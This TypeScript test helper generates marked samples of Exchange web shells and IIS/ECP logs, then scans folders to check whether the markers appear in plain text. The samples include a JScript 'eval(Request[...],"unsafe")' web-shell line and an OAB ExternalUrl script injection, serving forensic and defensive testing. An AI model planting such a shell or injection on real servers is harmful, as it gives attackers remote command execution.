import { readdir, readFile } from "node:fs/promises";
import { join } from "node:path";

/** Where in evidence a marker stands: in web shells as files, and in all places of a log where a shell can be written or sent. */
const places = ["shell", "oab", "command", "query", "mailbox", "agent", "rejected", "wide", "unread"] as const;

const script = (name: string) =>
  `<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""${name}""],""unsafe"");}</script>`;

/**
 * Samples of web shells and of logs that hold their text, each with a mark of its own that is found nowhere else. Inert: none is
 * a page that would compile. File names and addresses carry no mark, for these are what people look for.
 */
export function markedFiles(marker: string): { path: string; bytes: Buffer }[] {
  const mark = (place: (typeof places)[number]) => `${marker}${place}`;
  const shell = `<%@ Page Language="JScript"%><%eval(Request.Item["${mark("shell")}"],"unsafe");%> %% inert %%`;
  const oab = `Name : OAB (Default Web Site)\nExternalUrl : http://f/${script(mark("oab")).replaceAll('""', '"')}\n`;
  const ecp = [
    "#Software: Microsoft Exchange Server",
    "#Version: 15.0.0.0",
    "#Log-type: ECP Server Log",
    "#Fields: TimeStamp,ServerName,EventId,EventData",
    `2021-03-03T06:49:53.772Z,EX09,ECP.Request,"S:TIME=36;S:SID=c63f959d;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/${script(mark("command"))}'.Identity='982d48c8-0000-4000-8000-000000000000';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&x=${mark("query")};S:EX=;S:BLD=15.2.792.3"`,
    `2021-03-03T06:49:54.772Z,EX09,"broken ${mark("rejected")}"row`,
    "",
  ].join("\r\n");
  const proxy = [
    "#Software: Microsoft Exchange Server",
    "#Version: 15.02.0792.003",
    "#Log-type: HttpProxy Logs",
    "#Fields: DateTime,RequestId,UrlStem,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus",
    `2021-03-03T06:49:53.772Z,1,/ecp/y.js,ServerInfo~a]@ex09/ecp/DDI/DDIService.svc/SetObject?${mark("mailbox")}#,python-requests/2.25.1 ${mark("agent")},203.0.113.21,EX09,200`,
    "",
  ].join("\r\n");
  return [
    { path: "marked/shell.aspx", bytes: Buffer.from(shell) },
    { path: "marked/oab.aspx", bytes: Buffer.from(oab) },
    { path: "marked/ECPServer20210303-1.LOG", bytes: Buffer.from(ecp) },
    { path: "marked/HttpProxy_2021030300-1.LOG", bytes: Buffer.from(proxy) },
    {
      path: "marked/wide/HttpProxy_2021030300-2.LOG",
      bytes: Buffer.from(`\uFEFF${proxy.replaceAll(marker, `${mark("wide")} ${marker}`)}`, "utf16le"),
    },
    { path: "marked/unread.bin", bytes: Buffer.from(`MZ\u0000 ${mark("unread")} this program cannot be run`) },
  ];
}

const pieceBytes = 16 * 1024 * 1024;

/** Where a file holds the marker in plain, in UTF-8 or UTF-16; what follows it tells which sample it is of. */
function marksIn(bytes: Buffer, marker: string): string[] {
  const found: string[] = [];
  for (const encoding of ["utf8", "utf16le"] as const) {
    const needle = Buffer.from(marker, encoding);
    const after = encoding === "utf8" ? 12 : 24;
    for (let at = bytes.indexOf(needle); at >= 0 && found.length < 3; at = bytes.indexOf(needle, at + 1))
      found.push(bytes.toString(encoding, at, at + needle.length + after).replaceAll(/[^\w]+.*$/g, ""));
  }
  return found;
}

/** Every file below a folder that holds a marker in plain, and which. Looks into whatever lies there: store, database, journal. */
export async function plainMarks(folder: string, marker: string): Promise<string[]> {
  const found: string[] = [];
  for (const entry of await readdir(folder, { recursive: true, withFileTypes: true })) {
    const path = join(entry.parentPath, entry.name);
    if (!entry.isFile()) continue;
    // A database deletes files while it runs.
    const bytes = await readFile(path).catch(() => Buffer.alloc(0));
    for (let from = 0; from < bytes.length; from += pieceBytes)
      for (const mark of marksIn(bytes.subarray(from, from + pieceBytes + 200), marker))
        found.push(`${path.slice(folder.length + 1)} holds ${mark} in plain.`);
    if (entry.name.includes(marker)) found.push(`${path} is named after a marker.`);
  }
  return found;
}
